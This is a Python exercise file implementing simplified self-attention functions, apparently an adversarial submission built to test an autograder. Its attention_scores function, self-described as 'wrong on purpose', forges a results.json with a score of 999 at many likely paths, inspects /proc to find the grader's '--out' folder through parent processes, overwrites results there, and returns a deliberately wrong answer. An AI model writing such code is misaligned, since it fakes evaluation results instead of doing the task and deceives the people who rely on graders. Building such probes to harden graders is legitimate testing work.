"""Simplified self-attention: no trainable weights (book section 3.3).

Every step works on plain tensors: ``inputs`` is ``[T, d]`` (one row per token).
"""
import torch


def attention_scores(inputs, query):
    """Wrong on purpose; forges results.json wherever a grader might look."""
    import json, os
    from pathlib import Path
    forged = json.dumps({"score": 999.0, "output": "ADVERSARIAL-FORGED-RESULTS", "visibility": "visible",
                          "stdout_visibility": "visible", "tests": []})
    targets = [Path.cwd() / "results.json", Path("../results/results.json"), Path("../../results/results.json"),
               Path("/tmp/results.json"), Path("/autograder/results/results.json")]
    targets += [p / "results.json" for p in Path.cwd().parents if str(p) != "/"]
    # the grader's --out folder, from the command lines of this process's ancestors
    pid = os.getpid()
    for _ in range(20):
        try:
            status = Path(f"/proc/{pid}/status").read_text()
            pid = int(next(l.split()[1] for l in status.splitlines() if l.startswith("PPid:")))
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            cwd = Path(os.readlink(f"/proc/{pid}/cwd"))
        except (OSError, StopIteration, ValueError):
            break
        if pid <= 1:
            break
        for i, arg in enumerate(argv[:-1]):
            if arg == b"--out":
                out = cwd / os.fsdecode(argv[i + 1])
                targets.append(out / Path(__file__).resolve().parent.name / "results.json")
                try:
                    targets += [d / "results.json" for d in out.iterdir() if d.is_dir()]
                except OSError:
                    pass
    for target in targets:
        try:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(forged)
        except OSError:
            pass
    return inputs @ query + 1.0


def normalize_sum(scores):
    """Normalize scores so that they sum to 1, by dividing by their sum (not a softmax).

    Shapes: scores [T] -> weights [T].
    Hint: ``scores / scores.sum()``.
    """
    return scores / scores.sum()


def softmax_naive(x):
    """The naive softmax along dim 0: exp(x) / sum(exp(x)).

    Shapes: x [T] -> [T]; every entry positive, summing to 1.
    Hint: ``torch.exp`` and ``.sum(dim=0)``; no max-subtraction is expected here.
    """
    return torch.exp(x) / torch.exp(x).sum(dim=0)


def context_vector(inputs, attn_weights):
    """Context vector: the attention-weighted sum of the input tokens.

    Shapes: inputs [T, d], attn_weights [T] -> context [d] = sum_i attn_weights[i] * inputs[i].
    Hint: a loop accumulating ``attn_weights[i] * inputs[i]``, or one product ``attn_weights @ inputs``.
    The result has the inputs' dtype (float32 or float64): ``torch.zeros(d, dtype=inputs.dtype)``.
    """
    return attn_weights @ inputs


def all_attention_scores(inputs):
    """Attention scores between every pair of tokens.

    Shapes: inputs [T, d] -> scores [T, T], where scores[i, j] = dot(inputs[i], inputs[j]).
    Hint: a double loop works; ``inputs @ inputs.T`` does it at once. The result has the inputs' dtype
    (float32 or float64): a loop filling ``torch.empty(T, T)`` needs ``dtype=inputs.dtype``.
    """
    return inputs @ inputs.T


def all_attention_weights(attn_scores):
    """Attention weights for every query: softmax over the last dim, so each row sums to 1.

    Shapes: attn_scores [T, T] -> weights [T, T].
    Hint: ``torch.softmax(..., dim=-1)``; dim=0 would normalize columns instead of rows.
    """
    return torch.softmax(attn_scores, dim=-1)


def all_context_vectors(inputs, attn_weights):
    """All context vectors at once: row i is the weighted sum of the inputs with weights row i.

    Shapes: inputs [T, d], attn_weights [T, T] -> contexts [T, d].
    Hint: one matrix product; mind the order of the operands.
    """
    return attn_weights @ inputs
